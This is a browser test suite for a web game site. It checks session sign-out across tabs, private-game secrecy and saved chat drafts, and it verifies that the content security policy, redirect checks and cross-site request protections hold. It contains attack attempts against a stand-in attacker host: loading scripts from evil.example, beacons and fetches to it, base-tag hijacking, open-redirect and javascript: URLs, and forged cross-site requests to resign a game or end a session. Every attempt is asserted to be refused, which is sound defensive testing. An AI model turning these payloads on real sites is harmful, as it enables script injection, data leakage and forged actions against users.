// SPDX-License-Identifier: AGPL-3.0-or-later
// What one browser can do and show, and for whom: tabs of several people, what is stored for them, and what the policy
// forbids.
import { open, run } from './harness.mjs';
import { ui } from './ui.mjs';

/** Two people in a private game; the first one has to place a settlement. */
async function privateGame(t, names) {
    const [ada, bo] = [await t.server.account(`${names} ada`), await t.server.account(`${names} bo`)];
    const game = await ada.ask('POST', '/v1/games', { rules: { game: 'base', players: 2 }, seats: [{ account: 'me' }, { open: true }], visibility: 'unlisted', name: `${names} match` });
    await bo.ask('POST', `/v1/games/${game.id}/join`, {});
    return { ada, bo, id: game.id, path: `/games/${game.id}` };
}

async function signOut(page) {
    await page.locator(ui.menuButton).click();
    await page.locator('[data-do=sign-out]').click();
    await page.locator(ui.ownName).waitFor({ state: 'detached' });
}

async function signIn(page, { token, name }) {
    await page.goto('/sign-in');
    await page.getByRole('tab', { name: 'By key' }).click();
    await page.getByLabel('Key', { exact: true }).fill(token);
    await page.getByRole('tabpanel').getByRole('button', { name: 'Sign in' }).click();
    await named(page, name);
}

const named = (page, name) => page.locator(ui.ownName, { hasText: name }).waitFor();

/** Tries what the policy forbids, within the page; returns what succeeded. */
async function attacks() {
    const done = [];
    const attempt = async (name, attack) => {
        try {
            if (await attack()) done.push(name);
        } catch {
            // Refused, as it should be.
        }
    };
    const loaded = (tag, more) => new Promise((end) => {
        const element = Object.assign(document.createElement(tag), { onload: () => end(true), onerror: () => end(false) }, more);
        document.head.append(element);
        setTimeout(() => end(false), 1000);
    });
    globalThis.ran = false;
    // Code run by the debugger is not restricted; what it schedules for later runs as the page's own.
    await new Promise((end) => setTimeout(end));
    await attempt('eval', () => (0, eval)('1') === 1);
    await attempt('new Function', () => new Function('return true')());
    await attempt('a text as markup', () => { document.createElement('div').innerHTML = '<b>x</b>'; return true; });
    await attempt('a script in the page', () => { document.head.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.ran = true' })); return globalThis.ran; });
    await attempt('an event in an attribute', () => { const button = document.createElement('button'); button.setAttribute('onclick', 'globalThis.ran = true'); button.click(); return globalThis.ran; });
    await attempt('a script from elsewhere', () => loaded('script', { src: 'https://evil.example/x.js' }));
    await attempt('a module of text', () => import('data:text/javascript,export default true'));
    await attempt('another policy', () => globalThis.trustedTypes.createPolicy('other', {}));
    await attempt('our policy again', () => globalThis.trustedTypes.createPolicy('hexpost', { createScriptURL: (url) => url }));
    await attempt('a worker of text', () => new Worker(URL.createObjectURL(new Blob(['1']))));
    await attempt('a request elsewhere', () => fetch('https://evil.example/', { mode: 'no-cors' }));
    await attempt('a beacon elsewhere', async () => { let blocked = false; document.addEventListener('securitypolicyviolation', () => { blocked = true; }, { once: true }); navigator.sendBeacon('https://evil.example/', 'x'); await new Promise((end) => setTimeout(end, 200)); return !blocked; });
    await attempt('a picture from elsewhere', () => loaded('img', { src: 'https://evil.example/x.png' }));
    await attempt('a style from elsewhere', () => loaded('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }));
    await attempt('a frame', () => { const frame = document.createElement('iframe'); frame.src = '/about'; document.body.append(frame); return new Promise((end) => { frame.onload = () => end(frame.contentDocument !== null && frame.contentDocument.title !== ''); setTimeout(() => end(false), 1000); }); });
    await attempt('another base', () => { document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })); return new URL('x', document.baseURI).origin !== location.origin; });
    return done;
}

const complaint = /Content Security Policy|Trusted|frame-ancestors|X-Frame|Refused to/i;

await run('secrecy', {
    'who signs out takes along what other tabs show': async (t) => {
        const { ada, bo, id, path } = await privateGame(t, 'tabs');
        const page = await open(t, path, { account: ada });
        await page.locator(ui.game).waitFor();
        const other = await page.context().newPage();
        await other.goto('/');
        await named(other, ada.name);
        const before = (await ada.ask('GET', '/v1/me/tokens')).items.length;
        await signOut(other);
        await other.getByText('You’re signed out.').waitFor();
        await page.getByRole('link', { name: 'Sign in' }).first().waitFor();
        await page.locator(ui.game).waitFor();
        t.equal('the game is there, seen by a bystander', await page.evaluate(async (game) => (await (await fetch(`/v1/games/${game}/view`)).json()).viewer, id), null);
        t.equal('no orders or hand are', await page.locator(`#content ${ui.hand}, [role=tab][data-tab=orders]`).count(), 0);
        t.equal('the session has ended', (await ada.ask('GET', '/v1/me/tokens')).items.length, before - 1);
        await signIn(other, bo);
        await named(page, bo.name);
        await page.locator(ui.game).waitFor();
        await signOut(page);
        await other.getByRole('link', { name: 'Sign in' }).first().waitFor();
    },
    'a private game goes with its owner': async (t) => {
        const [ada] = [await t.server.account('private ada')];
        const { id } = await ada.ask('POST', '/v1/games', { rules: { game: 'base', players: 3 }, seats: [{ account: 'me' }, { bot: 'greedy' }, { bot: 'greedy' }], visibility: 'private', name: 'hidden from all' });
        const page = await open(t, `/games/${id}`, { account: ada });
        await page.getByText('hidden from all').first().waitFor();
        await signOut(page);
        await page.getByRole('heading', { name: 'Not here' }).or(page.locator(`${ui.fault} h1`)).first().waitFor();
        t.equal('nothing of it is left', (await page.locator('body').innerText()).includes('hidden from all'), false);
        await page.goto('/about');
        await page.goBack();
        await page.locator(`${ui.fault} h1`).waitFor();
        t.equal('not by going back either', (await page.locator('body').innerText()).includes('hidden from all'), false);
    },
    'tabs listen only to their own person\'s': async (t) => {
        const { ada, path } = await privateGame(t, 'notes');
        const page = await open(t, path, { account: ada });
        await page.locator(ui.game).waitFor();
        const { id } = await ada.ask('GET', '/v1/me');
        const other = await page.context().newPage();
        await other.goto('/about');
        await named(other, ada.name);
        const tell = (who, text) => other.evaluate(([whose, said, game]) => {
            const data = JSON.stringify({ game, talk: { id: 1, text: said, at: '2026-03-04T20:15:09.000Z', seat: 1, from: 'x', to: null } });
            new BroadcastChannel('hexpost-live').postMessage({ who: whose, url: '/v1/me/events', what: 'told', told: { type: 'talk', data } });
        }, [who, text, path.split('/')[2]]);
        const asked = [];
        page.on('request', (request) => asked.push(new URL(request.url()).pathname));
        await tell('somebody else', 'not for ada');
        // The message for its owner comes after it, and is received.
        const heard = page.waitForRequest('**/v1/me/games');
        await tell(id, 'for ada');
        await heard;
        t.equal('heard once', asked.filter((name) => name === '/v1/me/games').length, 1);
    },
    'what is typed is not for the next one, and goes to those it was meant for': async (t) => {
        const { ada, bo, path } = await privateGame(t, 'drafts');
        const page = await open(t, `${path}?tab=talk`, { account: ada });
        await page.locator('#talk-text').fill('my plan is the port');
        await page.locator('[data-to="1"]').click();
        await page.reload();
        await page.locator('#talk-text').waitFor();
        t.equal('it is kept', await page.locator('#talk-text').inputValue(), 'my plan is the port');
        t.equal('and for whom it is', await page.locator('[data-to="1"]').getAttribute('aria-pressed'), 'true');
        await signOut(page);
        await signIn(page, bo);
        await page.goto(`${path}?tab=talk`);
        await page.locator('#talk-text').waitFor();
        t.equal('not for somebody else', await page.locator('#talk-text').inputValue(), '');
        await signOut(page);
        await signIn(page, ada);
        await page.goto(`${path}?tab=talk`);
        await page.locator('#talk-text').waitFor();
        t.equal('but for its owner', await page.locator('#talk-text').inputValue(), 'my plan is the port');
    },
    'a server that is busy signs nobody out': async (t) => {
        const ada = await t.server.account('busy ada');
        const page = await open(t, null, { account: ada });
        await page.context().route('**/v1/session', (route) => route.fulfill({ status: 503, contentType: 'application/problem+json', body: '{"type":"/problems/unavailable","status":503}' }));
        await page.goto('/about');
        await page.getByRole('button', { name: 'Try again' }).waitFor();
        t.equal('it does not say so', await page.getByRole('link', { name: 'Sign in' }).count(), 0);
        await page.context().unroute('**/v1/session');
        await page.getByRole('button', { name: 'Try again' }).click();
        await named(page, ada.name);
    },
    'odd addresses lead nowhere else': async (t) => {
        const ada = await t.server.account('odd ada');
        const page = await open(t, null, { account: ada });
        for (const to of ['/.//evil.example/', '//evil.example/', '/\\evil.example', 'https://evil.example/', 'javascript:alert(1)']) {
            await page.goto(`/sign-in?to=${encodeURIComponent(to)}`);
            await page.getByRole('heading', { name: 'My games' }).waitFor();
            t.equal(to, page.url(), `${t.server.base}/`);
        }
        await page.goto('/about');
        await page.evaluate(() => { history.replaceState(null, '', '/people/%zz'); dispatchEvent(new PopStateEvent('popstate')); });
        await page.locator(`${ui.fault} h1`).waitFor();
        t.ok('an address that is none is not found', true);
    },
    'the policy holds': async (t) => {
        const ada = await t.server.account('policy ada');
        const page = await open(t, '/', { account: ada });
        await page.locator('main h1').first().waitFor();
        t.equal('nothing went through', await page.evaluate(attacks), []);
        t.plays.push('http://frames.example');
        await page.context().route('http://frames.example/', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${t.server.base}/"></iframe>` }));
        const around = await page.context().newPage();
        await around.goto('http://frames.example/');
        const inner = around.frames()[1];
        t.ok('nobody frames it', !inner || !inner.url().startsWith(t.server.base) || !(await inner.evaluate(() => document.body?.innerText ?? '').catch(() => '')).includes('games'));
        t.faults.splice(0, t.faults.length, ...t.faults.filter((fault) => !complaint.test(fault)));
    },
    'another site can neither read nor do anything': async (t) => {
        const { ada, id } = await privateGame(t, 'sites');
        const page = await open(t, '/about', { account: ada });
        t.plays.push('http://evil.example');
        await page.context().route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<p>evil</p>' }));
        const evil = await page.context().newPage();
        await evil.goto('http://evil.example/');
        const got = await evil.evaluate(async ([base, game]) => {
            const ask = (path, more) => fetch(base + path, more).then(async (response) => (response.ok ? response.text() : `${response.status}`), () => 'refused');
            return [
                await ask('/v1/me', { credentials: 'include' }),
                await ask('/v1/me'),
                await ask(`/v1/games/${game}/resign`, { method: 'POST', credentials: 'include' }),
                await ask(`/v1/games/${game}/talk`, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{"text":"hello"}' }),
                await ask('/v1/session', { method: 'DELETE', credentials: 'include' }),
            ];
        }, [t.server.base, id]);
        t.equal('refused', got.filter((answer) => !['refused', '401', '403', '415'].includes(answer)), []);
        t.equal('signed in still', await page.evaluate(async () => (await fetch('/v1/me')).status), 200);
        t.equal('nothing was said', (await ada.ask('GET', `/v1/games/${id}/talk`)).items.length, 0);
        t.faults.splice(0, t.faults.length, ...t.faults.filter((fault) => !/CORS/.test(fault)));
    },
}, { share: 3 });
